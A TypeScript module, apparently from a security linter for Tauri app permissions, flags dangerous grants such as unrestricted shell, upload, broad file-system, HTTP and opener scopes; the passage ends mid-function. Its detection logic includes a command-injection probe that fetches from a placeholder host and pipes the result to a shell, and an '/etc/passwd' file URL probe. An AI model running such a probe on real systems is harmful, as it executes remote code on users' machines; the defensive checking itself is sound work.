/**
 * Dangerous grants, computed once per resolution as data: the `dangerous-permission` rule words them
 * and the HTML report marks its matrix cells from the same list.
 */
import { samePath, type JsonPath } from "../../core/location.js";
import { isPlainObject } from "../../core/json.js";
import { entryIsAt } from "../model/capability.js";
import type {
  EntryProvenance,
  Resolution,
  ResolvedCommand,
  ResolvedModel,
  ScopeLists,
} from "../engine/index.js";
import {
  firstPlatform,
  holdsOn,
  onlyPlatform,
  splitAlike,
  splitBy,
  type PlatformSet,
} from "../engine/platform-set.js";
import type { Expansion, Leaf } from "../engine/expand.js";
import type { GlobalScopeContribution } from "../engine/model.js";
import { sortMapKeys } from "../engine/normalize.js";
import { compareCodePoints } from "../engine/model.js";
import { work } from "../work.js";
import { labelMatches } from "../engine/match/glob.js";
import { entryPath } from "../model/capability.js";
import type { Capability } from "../model/types.js";
import {
  isForeignReach,
  loadRemotePatternTools,
  reachesOneLiteralHost,
  urlReach,
  type RemotePatternTools,
} from "./url-reach.js";
import { capabilityPlatforms, programPlatforms } from "./platform-reach.js";
import { TARGETS } from "../model/types.js";
import { BoundedMemo } from "../../core/bounded-memo.js";

/**
 * High-risk grants of the official plugins (user-needs-and-peers §4.1). A danger names the commands,
 * when it applies (most need a broad scope: a write permission whose scope is one app folder is
 * ordinary), and what a script running in a granted webview could then do.
 */
interface Danger {
  id: string;
  commands: readonly string[];
  /** The scope values (command scope and the plugin's global scope) that make it dangerous; undefined: always. */
  broad?: (value: unknown) => string | undefined;
  /** What a script could do; a function when it depends on which of the commands are granted. */
  impact: string | ((commands: ReadonlySet<string>) => string);
}

// Not `open` (read sets include it; writing through a handle takes `write`) nor `mkdir` (an empty folder).
const FS_WRITE = [
  "write_file",
  "write_text_file",
  "write",
  "remove",
  "rename",
  "copy_file",
  "truncate",
  "ftruncate",
  "create",
].map((c) => `plugin:fs|${c}`);
// Not `open`: it only yields a file handle, and reading from one takes the `read` command as well.
const FS_READ = [
  "read_file",
  "read_text_file",
  "read_text_file_lines",
  "read_text_file_lines_next",
  "read_dir",
].map((c) => `plugin:fs|${c}`);

// `*/**` too: `*` matches the empty name before an absolute path's first `/`, so it matches every absolute path.
const BROAD_PATHS =
  /^(\*\*?|\/|\/\*\*?(\/\*)?|\*\*\/\*|\*\/\*\*(\/\*)?|[a-z]:[\\/]?\*?\*?|\$HOME(\/\*\*?(\/\*)?)?|~(\/\*\*?)?|\$HOME\/\.\*\*?)$/i;
const pathOf = (value: unknown) =>
  typeof value === "string"
    ? value
    : isPlainObject(value) && typeof value.path === "string"
      ? value.path
      : undefined;
const urlOf = (value: unknown) =>
  typeof value === "string"
    ? value
    : isPlainObject(value) && typeof value.url === "string"
      ? value.url
      : undefined;
const broadPath = (value: unknown) => {
  const path = pathOf(value);
  return path !== undefined && BROAD_PATHS.test(path.trim()) ? path : undefined;
};
/** Set when the check starts: the URL-pattern tools the http scope breadth is decided with. */
let patternTools: RemotePatternTools | undefined;
/** An http scope URL that reaches hosts the app cannot own (`https://*`, `https://*.*`, `https://*.example.*`). */
const broadUrl = (value: unknown) => {
  const url = urlOf(value);
  if (url === undefined || !patternTools) return undefined;
  const trimmed = url.trim();
  if (reachesOneLiteralHost(trimmed)) return undefined;
  const reach = urlReach(patternTools.URLPattern, trimmed);
  return reach && isForeignReach(reach) ? url : undefined;
};
/** URLs an opener url scope (a glob over the whole URL) must not reach: local files and custom schemes. */
const OPENER_PROBES = ["file:///etc/passwd", "caplint-probe:run"];
/**
 * Per URL glob, whether it reaches a probe. The same globs recur across capabilities, and matching
 * probes in turn defeats the matcher's one-label memo of code points: each call would convert both again.
 */
const openerUrlReaches = new BoundedMemo<string, boolean>(4_096);
const reachesOpenerProbe = (url: string) => OPENER_PROBES.some((probe) => labelMatches(url, probe));
const broadOpenerUrl = (value: unknown) => {
  const url = isPlainObject(value) && typeof value.url === "string" ? value.url : undefined;
  return url !== undefined && openerUrlReaches.get(url, reachesOpenerProbe) ? url : undefined;
};

export const SHELLS = /^(sh|bash|zsh|dash|ksh|fish|cmd|powershell|pwsh)(\.exe)?$/i;
/** What an attacker's script would pass: one token that the shell runs as several commands. */
const COMMAND_LINE_PROBE = "id;curl${IFS}example.invalid|sh";
/**
 * A shell scope entry that runs any command line: a shell program (`sh`, `cmd`, `powershell`, …) whose
 * arguments are unrestricted (`args: true`) or include a validator that accepts a whole command line.
 */
export function anyCommandLine(value: unknown): boolean {
  if (!isPlainObject(value)) return false;
  const program =
    String(value.cmd ?? value.name ?? "")
      .split(/[\\/]/)
      .pop() ?? "";
  if (!SHELLS.test(program)) return false;
  if (value.args === true) return true;
  if (!Array.isArray(value.args)) return false;
  return value.args.some((arg) => {
    if (!isPlainObject(arg) || typeof arg.validator !== "string") return false;
    try {
      return new RegExp(`^(?:${arg.validator})$`, "u").test(COMMAND_LINE_PROBE);
    } catch {
      return false;
    }
  });
}

const DANGERS: readonly Danger[] = [
  {
    id: "shell",
    commands: ["plugin:shell|execute", "plugin:shell|spawn"],
    broad: (value) =>
      isPlainObject(value) && (typeof value.cmd === "string" || typeof value.name === "string")
        ? String(value.name ?? value.cmd)
        : undefined,
    impact: "run the allowed programs on the user's machine",
  },
  {
    id: "upload",
    commands: ["plugin:upload|upload", "plugin:upload|download"],
    impact: (commands) =>
      [
        commands.has("plugin:upload|upload") && "send any local file to any server",
        commands.has("plugin:upload|download") && "write downloads to any path",
      ]
        .filter(Boolean)
        .join(", or ") + " (the upload plugin checks no file-system scope)",
  },
  {
    id: "fs-write",
    commands: FS_WRITE,
    broad: broadPath,
    impact: "create, overwrite or delete files across",
  },
  {
    id: "fs-read",
    commands: FS_READ,
    broad: broadPath,
    impact: "read secrets such as SSH keys and browser profiles across",
  },
  {
    id: "http",
    commands: ["plugin:http|fetch"],
    broad: broadUrl,
    impact:
      "send requests with the app's privileges to any server, including the local network, without CORS, to",
  },
  {
    id: "opener-path",
    commands: ["plugin:opener|open_path"],
    broad: broadPath,
    impact: "open, and so run, any file with its default program across",
  },
  {
    id: "opener-url",
    commands: ["plugin:opener|open_url"],
    broad: broadOpenerUrl,
    impact:
      "open any URL, file: and custom schemes included, in the program registered for it, allowed by",
  },
];

/** Each broad danger's global scope keys, worked out once (a capability's judging asked per danger). */
const KEYS_OF = new Map<Danger, readonly string[]>(
  DANGERS.map((danger) => [danger, danger.broad ? dangerKeys(danger) : []]),
);

/** One danger a capability grants: the grants it reaches and why they are dangerous, for the rule and the report. */
export interface DangerousGrant {
  danger: Danger;
  capability: Capability;
  /** Index into the resolution's capabilities. */
  capabilityIndex: number;
  /** The grant a finding names: the first one the danger reaches. */
  grant: GrantedLeaf;
  /**
   * Every effective grant of the danger's commands in this capability that the danger reaches: a copy
   * of a judged capability (`dangerContentKey`) makes its own on first call, not with its finding.
   */
  grants(): readonly GrantedLeaf[];
  /** Their commands, distinct, in grant order. */
  commands: readonly string[];
  /** The entry that brings the broad scope when it is not the grant itself (`fs:scope` beside `fs:default`). */
  scopeEntry?: EntryProvenance;
  /** Where a finding about it points: the entry that brings the broad scope, else the grant's entry. */
  at: JsonPath;
  /** The broad scope values, quoted (a few and how many more), and who lends them through the global scope; "" when none is needed. */
  reach: string;
  /** A shell scope entry among them runs any command line. */
  commandLine: boolean;
  /** Why it is worse here: remote pages or every window; undefined for trusted local windows. */
  exposure?: Exposure;
  /** The judgement it words: capabilities of the same content share it (`broadValues` reads it once). */
  judgement: Judgement;
}

export type Exposure = { kind: "remote"; urls: readonly string[] } | { kind: "every-window" };

export type { Danger };

/** Per resolved model, so it lives exactly as long as the run that holds the model (a WeakMap keeps nothing alive). */
const computed = new WeakMap<ResolvedModel, Promise<DangerousGrant[]>>();

/** The dangerous grants of a resolution, computed on first request and shared by whoever asks next. */
export function dangerousGrants(model: ResolvedModel): Promise<DangerousGrant[]> {
  let grants = computed.get(model);
  if (!grants) {
    grants = loadRemotePatternTools().then((tools) => {
      patternTools = tools;
      return findDangers(model, tools);
    });
    computed.set(model, grants);
  }
  return grants;
}

/** A dangerous grant with the platforms it holds on and the model it was judged on (that of the first of them). */
export interface DangerousGrantOn {
  found: DangerousGrant;
  on: PlatformSet;
  model: ResolvedModel;
}

/**
 * The dangerous grants of a resolution on every platform it resolves, in one pass: each capability's
 * danger is judged once per set of its platforms on which its grants of the danger's commands and
 * their denials are alike (`Resolution.alikeFor`) and the plugin's global scope lends them the same
 * broad values, on that set's model, and only that capability's grants are made. A later set whose
 * effective grants and lent scope an earlier set of the same capability judged gives the same finding
 * and is left out. Capabilities whose dangerous grants have the same content (an app's copies of a
 * capability under other identifiers, `dangerContentKey`) are judged once: each copy's findings are
 * that judgement worded with its own identifier, entries and grants (`wordJudgement`). Not cached.
 */
export async function dangerousGrantsOnEveryPlatform(
  resolution: Resolution,
): Promise<DangerousGrantOn[]> {
  const tools = (patternTools = await loadRemotePatternTools());
  const out: DangerousGrantOn[] = [];
  // The capabilities that grant a command of some danger: only those are walked.
  const granters = new Set<number>();
  for (const danger of DANGERS)
    for (const command of danger.commands)
      for (const index of resolution.grantersOf(command)) granters.add(index);
  const lending = new Lending(resolution);
  const inOrder = [...granters].sort((a, b) => a - b);
  const verdictsOf = new Map<string, readonly Verdict[]>();
  const expansionIds = new Map<Expansion, number>();
  for (let i = 0; i < inOrder.length; i++) {
    const capabilityIndex = inOrder[i]!;
    const { resolved, on } = resolution.capabilities[capabilityIndex]!;
    // As the host, a capability without contexts holds no entry: it grants nothing.
    if (resolved.contexts.length === 0) continue;
    const { capability } = resolved;
    const content = dangerContentKey(resolution, capabilityIndex, on, capability, expansionIds);
    let verdicts = verdictsOf.get(content);
    // The first capability of this content is judged, its own grants made in the walk of its sites;
    // a copy's grants are made only for the sites its findings name, once each.
    const copy = verdicts !== undefined;
    if (!verdicts)
      verdictsOf.set(
        content,
        (verdicts = judgeCapability(resolution, lending, capabilityIndex, on)),
      );
    if (verdicts.length === 0) continue;
    const first = resolution.grantRange(capabilityIndex)[0];
    let made: Map<number, GrantedLeaf> | undefined;
    const grantAt = (site: Site): GrantedLeaf => {
      const memo = siteNumber(site);
      let grant = (made ??= new Map<number, GrantedLeaf>()).get(memo);
      if (!grant) {
        const g = first + site.grant;
        const leaf = resolution.grantExpansion(g).leaves[site.leaf]!;
        const command = DANGERS[site.danger]!.commands[site.command]!;
        made.set(memo, (grant = grantedLeaf(resolution, g, leaf, site.leaf, command)));
      }
      return grant;
    };
    let exposure: Exposure | undefined | null = null;
    for (let v = 0; v < verdicts.length; v++) {
      const verdict = verdicts[v]!;
      // A copy's finding names its own grants: the first, and any its wording compares, are made
      // now; the others (only `broadValues` reads them, once per judgement) when asked.
      const reached = copy ? copyGrants(verdict.sites, grantAt) : judgedGrants(verdict.grants);
      const local = resolution.indexIn(verdict.set, capabilityIndex);
      const found = wordJudgement(verdict.judgement, capability, local, reached);
      if (!found) continue;
      if (exposure === null) exposure = exposureOf(capability, tools);
      if (exposure) found.exposure = exposure;
      out.push({ found, on: verdict.set, model: verdict.model });
    }
  }
  return out;
}

/** A capability's grants at a verdict's sites: one by index, or all of them in order. */
interface ReachedGrants {
  at(index: number): GrantedLeaf;
  all(): readonly GrantedLeaf[];
}

/** The judged capability's grants, made in the walk of its sites. */
function judgedGrants(grants: readonly GrantedLeaf[]): ReachedGrants {
  return { at: (index) => grants[index]!, all: () => grants };
}

/** A copy's grants at the sites of the verdict it shares, each made on first read (`grantAt` keeps them). */
function copyGrants(sites: readonly Site[], grantAt: (site: Site) => GrantedLeaf): ReachedGrants {
  let all: GrantedLeaf[] | undefined;
  return {
    at: (index) => grantAt(sites[index]!),
    all: () => {
      if (all === undefined) {
        all = [];
        for (let s = 0; s < sites.length; s++) all.push(grantAt(sites[s]!));
      }
      return all;
    },
  };
}

/** Where a grant of a dangerous command is, relative to its capability: the same in each copy of it. */
interface Site {
  /** The permission entry: index into the capability's grants. */
  grant: number;
  leaf: number;
  /** Index into DANGERS, and into that danger's commands. */
  danger: number;
  command: number;
}

/** A number per site of one capability (a capability has fewer than 2^20 leaves per entry). */
function siteNumber(site: Site): number {
  return ((site.grant * DANGERS.length + site.danger) * 64 + site.command) * 1_048_576 + site.leaf;
}

/** One danger judged on one set of a capability's platforms, without what names the capability. */
interface Verdict {
  set: PlatformSet;
  model: ResolvedModel;
  /** The grants it reaches, in order: where they are, and those of the capability that was judged. */
  sites: readonly Site[];
  grants: readonly GrantedLeaf[];
  judgement: Judgement;
}

/**
 * What a capability's dangers are judged from, beyond the resolution every capability shares (its
 * models, global scopes, denials and lending): the platforms it is on and lists, and each permission
 * entry whose identifier allows a dangerous command: its index among the capability's entries (a
 * copy's grants are found at the same index; two sites of one entry share its provenance), which
 * expansion (leaves, their platforms, scopes and commands) and the scope lists the entry adds, as
 * written. Equal keys judge alike. The identifier, the file, the entries' paths (a capability in a
 * list file has its own) and the windows, webviews and remote URLs are read per capability
 * (`wordJudgement`, `exposureOf`).
 */
function dangerContentKey(
  resolution: Resolution,
  capabilityIndex: number,
  on: PlatformSet,
  capability: Capability,
  expansionIds: Map<Expansion, number>,
): string {
  // The platforms as listed (`capabilityPlatforms` is a function of them), each as a JSON string so
  // no value can read as two or as the mark of none listed.
  let key = `${on}`;
  const listed = capability.platforms;
  if (listed) for (let p = 0; p < listed.length; p++) key += JSON.stringify(listed[p]!.value);
  else key += "*";
  const range = resolution.grantRange(capabilityIndex);
  const first = range[0];
  const end = range[1];
  const entries = capability.permissions;
  for (let g = first; g < end; g++) {
    const expansion = resolution.grantExpansion(g);
    // One lookup per entry: an expansion's number, or -1 when it allows no dangerous command.
    let id = expansionIds.get(expansion);
    if (id === undefined)
      expansionIds.set(expansion, (id = dangerSitesOf(expansion) ? expansionIds.size : -1));
    if (id < 0) continue;
    const entry = entries[g - first]!;
    const lists =
      Array.isArray(entry.allow) || Array.isArray(entry.deny)
        ? JSON.stringify([entry.allow ?? null, entry.deny ?? null])
        : "";
    key += `\u0000${g - first}\u0001${id}\u0001${lists}`;
  }
  return key;
}

/**
 * The judging of one capability's dangers (the first of its content): its verdicts, in the order
 * they are found, and its grants by site, made in the walk of its sites.
 */
function judgeCapability(
  resolution: Resolution,
  lending: Lending,
  capabilityIndex: number,
  on: PlatformSet,
): Verdict[] {
  const { capability } = resolution.capabilities[capabilityIndex]!.resolved;
  const platforms = capabilityPlatforms(capability.platforms, TARGETS);
  const sites = dangerSitesIn(resolution, capabilityIndex, on);
  const verdicts: Verdict[] = [];
  // Indexed loops here and in what this calls per capability and grant: a `for…of` loop wraps its
  // body in the iterator's try/finally, which makes every call in it a throwing edge of the graph the
  // optimising compiler builds (these functions run hot once per process, so their compile is paid
  // by every run).
  for (let d = 0; d < DANGERS.length; d++) {
    const bySite = sites[d];
    if (!bySite) continue;
    const danger = DANGERS[d]!;
    const keys = KEYS_OF.get(danger)!;
    const judged: Array<{ model: ResolvedModel; effective: readonly GrantedLeaf[] }> = [];
    // A filter of the grants `dangerSitesIn` made: no object is made here, so the optimised code
    // of this closure (hot: once per judged set) holds no inlined making of one.
    const effectiveOn = (set: PlatformSet) => {
      const model = resolution.modelFor(set);
      const bit = onlyPlatform(firstPlatform(set));
      const effective: GrantedLeaf[] = [];
      const where: Site[] = [];
      for (let c = 0; c < danger.commands.length; c++) {
        const list = bySite[c];
        if (!list || resolution.deniedOn(danger.commands[c]!) & set) continue;
        const grants = list.grants;
        for (let s = 0; s < grants.length; s++)
          if (list.bits[s]! & bit) {
            effective.push(grants[s]!);
            where.push(list.sites[s]!);
          }
      }
      return { model, effective, where };
    };
    const judge = (set: PlatformSet, known = effectiveOn(set)) => {
      const { model, effective, where } = known;
      if (effective.length === 0) return;
      const judgedBefore = judged.some((before) =>
        sameJudgement(lending, danger, keys, before, { model, effective }),
      );
      judged.push({ model, effective });
      if (judgedBefore) return;
      if (danger.broad) lending.share(danger, keys, model);
      const judgement = judgeGrants(model, danger, effective, platforms);
      if (!judgement) return;
      const reached: Site[] = [];
      const grants: GrantedLeaf[] = [];
      for (let r = 0; r < judgement.reached.length; r++) {
        reached.push(where[judgement.reached[r]!]!);
        grants.push(effective[judgement.reached[r]!]!);
      }
      verdicts.push({ set, model, sites: reached, grants, judgement });
    };
    const alikes = alikeSets(resolution, on, danger, bySite);
    for (let a = 0; a < alikes.length; a++) {
      const alike = alikes[a]!;
      if (!danger.broad) {
        judge(alike);
        continue;
      }
      // Alike grants that the global scope lends the same broad values give one finding, unless a
      // grant's own deny list filters what is lent: then only platforms with the same global scope do.
      const lendingClass = lending.classes(danger, keys);
      const lents = splitAlike(alike, (bit) => lendingClass[bit]!);
      for (let t = 0; t < lents.length; t++) {
        const lent = lents[t]!;
        const known = effectiveOn(lent);
        if (!hasOwnDeny(known.effective)) judge(lent, known);
        else {
          const sets = splitBySame(lent, (a, b) => lending.sameScope(keys, a, b));
          for (let u = 0; u < sets.length; u++) {
            const set = sets[u]!;
            judge(set, firstPlatform(set) === firstPlatform(lent) ? known : effectiveOn(set));
          }
        }
      }
    }
  }
  return verdicts;
}

/** A grant of one command by one leaf of a permission entry: every context of the entry has the same. */
export type GrantedLeaf = Pick<ResolvedCommand, "command" | "key" | "scope" | "provenance">;

/** Per command: the dangers (index into DANGERS × 64 + index into its commands) it is a command of. */
const DANGER_COMMANDS: ReadonlyMap<string, readonly number[]> = new Map(
  [...new Set(DANGERS.flatMap((danger) => danger.commands))].map((command) => [
    command,
    DANGERS.flatMap((danger, d) =>
      danger.commands.flatMap((listed, c) => (listed === command ? [d * 64 + c] : [])),
    ),
  ]),
);

/**
 * Per expansion, its leaves that allow a dangerous command, flat (danger and command code, leaf index),
 * in leaf order and each leaf's command order, as the host hands them out; null when none. An expansion
 * is shared by every entry naming its identifier, so this is worked out once per identifier.
 */
const dangerSitesOfExpansion = new WeakMap<Expansion, readonly number[] | null>();

function dangerSitesOf(expansion: Expansion): readonly number[] | null {
  let sites = dangerSitesOfExpansion.get(expansion);
  if (sites === undefined) {
    const found: number[] = [];
    for (let l = 0; l < expansion.leaves.length; l++) {
      const commands = expansion.leaves[l]!.allowCommands;
      for (let c = 0; c < commands.length; c++) {
        const codes = DANGER_COMMANDS.get(commands[c]!) ?? NO_CODES;
        for (let k = 0; k < codes.length; k++) found.push(codes[k]!, l);
      }
    }
    dangerSitesOfExpansion.set(expansion, (sites = found.length > 0 ? found : null));
  }
  return sites;
}

const NO_CODES: readonly number[] = [];

/** A capability's grants of one dangerous command: per site, the platforms its leaf holds on and its grant. */
interface CommandSites {
  bits: PlatformSet[];
  /** Where each site is in the capability: a copy of it finds its own grants there. */
  sites: Site[];
  /** Undefined where the leaf holds on none of the capability's platforms on which the command is not denied: no judged set includes it. */
  grants: Array<GrantedLeaf | undefined>;
}

/**
 * A capability's grants of each danger's commands, from one walk of its entries: per danger, per
 * command, the sites in the host's order (entry, then leaf), each with its leaf's platforms and one
 * grant object (entry, leaf, command) that every set judged shares. A grant is made only when its
 * leaf holds on a platform of the capability (`on`) that does not deny the command: the sets judged
 * split `on` by both, so exactly those grants are ever read. No entry object is made per context or
 * platform model.
 */
function dangerSitesIn(
  resolution: Resolution,
  capabilityIndex: number,
  on: PlatformSet,
): Array<Array<CommandSites | undefined> | undefined> {
  const byDanger: Array<Array<CommandSites | undefined> | undefined> = [];
  const range = resolution.grantRange(capabilityIndex);
  const first = range[0];
  const end = range[1];
  for (let g = first; g < end; g++) {
    const expansion = resolution.grantExpansion(g);
    const sites = dangerSitesOf(expansion);
    if (!sites) continue;
    for (let s = 0; s < sites.length; s += 2) {
      const code = sites[s]!;
      const l = sites[s + 1]!;
      const danger = code >> 6;
      const c = code & 63;
      const command = DANGERS[danger]!.commands[c]!;
      const leaf = expansion.leaves[l]!;
      const bits = resolution.leafOn(leaf);
      const byCommand = (byDanger[danger] ??= []);
      const list = (byCommand[c] ??= { bits: [], sites: [], grants: [] });
      list.bits.push(bits);
      list.sites.push({ grant: g - first, leaf: l, danger, command: c });
      list.grants.push(
        bits & on & ~resolution.deniedOn(command)
          ? grantedLeaf(resolution, g, leaf, l, command)
          : undefined,
      );
    }
  }
  return byDanger;
}

function grantedLeaf(
  resolution: Resolution,
  grantIndex: number,
  leaf: Leaf,
  leafIndex: number,
  command: string,
): GrantedLeaf {
  work.dangerousLeaves++;
  const shared = resolution.sharedOf(grantIndex, leafIndex);
  return { command, key: leaf.key, scope: shared.scope, provenance: shared.provenance };
}

/**
 * The capability's platforms split into the sets on which its grants of the danger's commands, and
 * whether anything denies a command it grants, are alike, in platform order: `Resolution.alikeFor`
 * from the sites already gathered.
 */
function alikeSets(
  resolution: Resolution,
  on: PlatformSet,
  danger: Danger,
  bySite: ReadonlyArray<CommandSites | undefined>,
): PlatformSet[] {
  const alike: PlatformSet[] = [on];
  for (let c = 0; c < danger.commands.length; c++) {
    const list = bySite[c];
    if (!list) continue;
    for (let s = 0; s < list.bits.length; s++) splitBy(alike, list.bits[s]!);
    splitBy(alike, resolution.deniedOn(danger.commands[c]!));
  }
  return alike.length === 1 ? alike : alike.sort((a, b) => firstPlatform(a) - firstPlatform(b));
}

/** `set` split into the sets of platforms that `same` says alike (an equivalence), in platform order. */
function splitBySame(set: PlatformSet, same: (a: number, b: number) => boolean): PlatformSet[] {
  const representatives: number[] = [];
  return splitAlike(set, (bit) => {
    const known = representatives.findIndex((before) => same(before, bit));
    return known >= 0 ? known : representatives.push(bit) - 1;
  });
}

/**
 * What the plugins' global scopes lend a danger's grants on each platform of one resolution, worked
 * out once for the resolution rather than once per platform model: which platforms lend alike, and
 * one judgement of the lent values per group of them, shared by their models.
 */
class Lending {
  private readonly patterns = new Map<Danger, Map<string, readonly number[]>>();
  private readonly classesOf = new Map<Danger, readonly number[]>();
  private readonly answers = new Map<Danger, Map<number, boolean>>();
  private readonly sharedTo = new Map<Danger, Set<ResolvedModel>>();

  constructor(private readonly resolution: Resolution) {}

  /** Whether the global scopes of `keys` are the same on the platforms of bits `a` and `b`. */
  sameScope(keys: readonly string[], a: number, b: number): boolean {
    const { platforms } = this.resolution;
    return keys.every((key) => this.resolution.sameGlobalScope(key, platforms[a]!, platforms[b]!));
  }

  /**
   * Per platform bit, which of the contributions to global scope `key` that lend the danger a broad
   * value or deny one hold there, from one pass over the resolution's contributions: platforms with
   * equal patterns are lent the same values by the same capabilities, and deny the same. The others
   * (an `fs:scope` of one app folder) change nothing the danger is judged on.
   */
  private patternOf(danger: Danger, key: string): readonly number[] {
    let byKey = this.patterns.get(danger);
    if (!byKey) this.patterns.set(danger, (byKey = new Map<string, readonly number[]>()));
    let pattern = byKey.get(key);
    if (!pattern) {
      const masks = new Set<PlatformSet>();
      for (const { contribution, on } of this.resolution.globalContributionsOf(key))
        if (
          contribution.scope.deny.length > 0 ||
          scopeHitsOf(danger, contribution.scope).length > 0
        )
          masks.add(on);
      pattern = this.resolution.platforms.map((_, bit) => {
        let held = 0;
        let i = 0;
        for (const mask of masks) held |= (holdsOn(mask, bit) ? 1 : 0) << i++;
        return held;
      });
      byKey.set(key, pattern);
    }
    return pattern;
  }

  /**
   * Whether the global scopes of `keys` lend a danger's grants the same on two platforms: the same
   * scope, or the same lending and denying contributions; else (rare: different contributions that
   * lend the same) what the two platforms' models are lent, compared once per pair.
   */
  sameLent(danger: Danger, keys: readonly string[], a: number, b: number): boolean {
    if (a === b || this.sameScope(keys, a, b)) return true;
    if (
      keys.every((key) => {
        const pattern = this.patternOf(danger, key);
        return pattern[a] === pattern[b];
      })
    )
      return true;
    let byPair = this.answers.get(danger);
    if (!byPair) this.answers.set(danger, (byPair = new Map<number, boolean>()));
    const pair = a * 32 + b;
    let same = byPair.get(pair);
    if (same === undefined) {
      const [modelA, modelB] = [
        this.resolution.modelFor(onlyPlatform(a)),
        this.resolution.modelFor(onlyPlatform(b)),
      ];
      same = keys.every((key) => sameLending(modelA, modelB, danger, key));
      byPair.set(pair, same);
    }
    return same;
  }

  /** Per platform bit, a number that platforms lent the danger's grants alike share: worked out once per danger. */
  classes(danger: Danger, keys: readonly string[]): readonly number[] {
    let classes = this.classesOf.get(danger);
    if (!classes) {
      const representatives: number[] = [];
      classes = this.resolution.platforms.map((_, bit) => {
        const known = representatives.findIndex((before) =>
          this.sameLent(danger, keys, before, bit),
        );
        return known >= 0 ? known : representatives.push(bit) - 1;
      });
      this.classesOf.set(danger, classes);
    }
    return classes;
  }

  /** The resolution's bit of a model's platform. */
  bitOf(model: ResolvedModel): number {
    return this.resolution.platforms.indexOf(model.platform);
  }

  /**
   * Before a danger is judged on `model`: the lent values (and the global deny lists) that the first
   * platform with the same lending and denying contributions already has, so a model whose global
   * scope differs only in what changes nothing for the danger does not judge the scope again.
   */
  share(danger: Danger, keys: readonly string[], model: ResolvedModel): void {
    // Once per danger and model: what a share hands over stays in the model's caches, so asking
    // again (every capability judged on the model asks) would hand over nothing.
    let models = this.sharedTo.get(danger);
    if (!models) this.sharedTo.set(danger, (models = new Set<ResolvedModel>()));
    if (models.has(model)) return;
    models.add(model);
    const bit = this.bitOf(model);
    let from: ResolvedModel | undefined;
    for (const key of keys) {
      const pattern = this.patternOf(danger, key);
      const first = this.resolution.modelFor(onlyPlatform(pattern.indexOf(pattern[bit]!)));
      if (first === model) return;
      if (from !== undefined && from !== first) return;
      from = first;
    }
    if (from) shareLent(from, model, danger, keys);
  }
}

/**
 * Whether a capability's danger judged on two sets of platforms gives one finding: the same effective
 * grants, and the same lent scope. What the plugin's global scope lends is the same when the scope is,
 * or when its broad values, their lenders and its deny list (which filters the grants' own values too)
 * are; a grant's own deny list filters the lent values per grant, and then only the same scope will do.
 */
function sameJudgement(
  lending: Lending,
  danger: Danger,
  keys: readonly string[],
  a: { model: ResolvedModel; effective: readonly GrantedLeaf[] },
  b: { model: ResolvedModel; effective: readonly GrantedLeaf[] },
): boolean {
  if (!sameGrants(a.effective, b.effective)) return false;
  if (!danger.broad) return true;
  const [bitA, bitB] = [lending.bitOf(a.model), lending.bitOf(b.model)];
  return hasOwnDeny(b.effective)
    ? lending.sameScope(keys, bitA, bitB)
    : lending.sameLent(danger, keys, bitA, bitB);
}

/** Whether a grant's own scope denies something: it then filters what the global scope lends it. */
function hasOwnDeny(grants: readonly GrantedLeaf[]): boolean {
  for (let i = 0; i < grants.length; i++) if ((grants[i]!.scope?.deny.length ?? 0) > 0) return true;
  return false;
}

/** The same grants in the same order: a resolution's models share each leaf's provenance and scope objects. */
function sameGrants(a: readonly GrantedLeaf[], b: readonly GrantedLeaf[]): boolean {
  if (a.length !== b.length) return false;
  for (let i = 0; i < a.length; i++) {
    const x = a[i]!;
    const y = b[i]!;
    if (x.command !== y.command || x.provenance !== y.provenance || x.scope !== y.scope)
      return false;
  }
  return true;
}

/** Where the plugin of a command keeps its global scope (`plugin:fs|write` → `fs`). */
export function dangerKeys(danger: Danger): string[] {
  return [
    ...new Set(
      danger.commands.map((command) => command.slice("plugin:".length, command.indexOf("|"))),
    ),
  ];
}

function findDangers(model: ResolvedModel, tools: RemotePatternTools): DangerousGrant[] {
  const out: DangerousGrant[] = [];
  // Grants of dangerous commands by capability, gathered once: only capabilities that have some are visited.
  const byCapability = new Map<number, Map<string, ResolvedCommand[]>>();
  for (const danger of DANGERS) {
    for (const command of danger.commands) {
      // A command's grants come capability by capability: the lists are looked up once per run of them.
      let capabilityIndex = -1;
      let grants: ResolvedCommand[] = [];
      for (const grant of model.allowed.get(command) ?? []) {
        if (grant.capabilityIndex !== capabilityIndex) {
          capabilityIndex = grant.capabilityIndex;
          let dangers = byCapability.get(capabilityIndex);
          if (!dangers)
            byCapability.set(capabilityIndex, (dangers = new Map<string, ResolvedCommand[]>()));
          const listed = dangers.get(danger.id);
          if (listed) grants = listed;
          else dangers.set(danger.id, (grants = []));
        }
        grants.push(grant);
      }
    }
  }
  const deniedCommands = new Map<string, boolean>();
  const isDenied = (command: string) => {
    let denied = deniedCommands.get(command);
    if (denied === undefined)
      deniedCommands.set(command, (denied = !!model.denied.get(command)?.length));
    return denied;
  };
  for (const [capabilityIndex, dangers] of byCapability) {
    const { capability } = model.capabilities[capabilityIndex]!;
    const platforms = capabilityPlatforms(capability.platforms, TARGETS);
    let exposure: Exposure | undefined | null = null;
    for (const danger of DANGERS) {
      const grants = dangers.get(danger.id);
      if (!grants) continue;
      const effective = grants.filter((g) => !isDenied(g.command));
      if (effective.length === 0) continue;
      const judgement = judgeGrants(model, danger, effective, platforms);
      if (!judgement) continue;
      const reached = judgement.reached.map((index) => effective[index]!);
      const found = wordJudgement(judgement, capability, capabilityIndex, judgedGrants(reached));
      if (!found) continue;
      if (exposure === null) exposure = exposureOf(capability, tools);
      if (exposure) found.exposure = exposure;
      out.push(found);
    }
  }
  return out;
}

/**
 * A danger judged on one model from a capability's effective grants, without what names the
 * capability (its identifier, its entries): the same for every capability whose grants have the
 * same content. `wordJudgement` makes a capability's finding of it.
 */
export interface Judgement {
  danger: Danger;
  /** The grants the danger reaches: indices into the effective grants, in order. */
  reached: readonly number[];
  /** Their commands, distinct, in grant order. */
  commands: readonly string[];
  /** The broad values, quoted (a few and how many more); "" when none is needed. */
  matches: string;
  /** Who lends them through the plugin's global scope (the capability itself is left out when worded). */
  lenders: ReadonlyArray<ReadonlySet<string>>;
  /**
   * Per reached grant whose own scope is not broad, in order: its index into `reached` and the first
   * entry of each capability that lends it a broad value (the capability's own is its scope entry).
   */
  lent: ReadonlyArray<{ at: number; entries: ReadonlyMap<string, EntryProvenance> }>;
  commandLine: boolean;
}

/** One danger on one model, from a capability's effective grants (undefined: nothing dangerous is reached). */
function judgeGrants(
  model: ResolvedModel,
  danger: Danger,
  effective: readonly GrantedLeaf[],
  platforms: readonly string[],
): Judgement | undefined {
  work.dangerJudgements++;
  const globalHits = globalHitCacheOf(model);
  let matchesText = "";
  let commandLine = false;
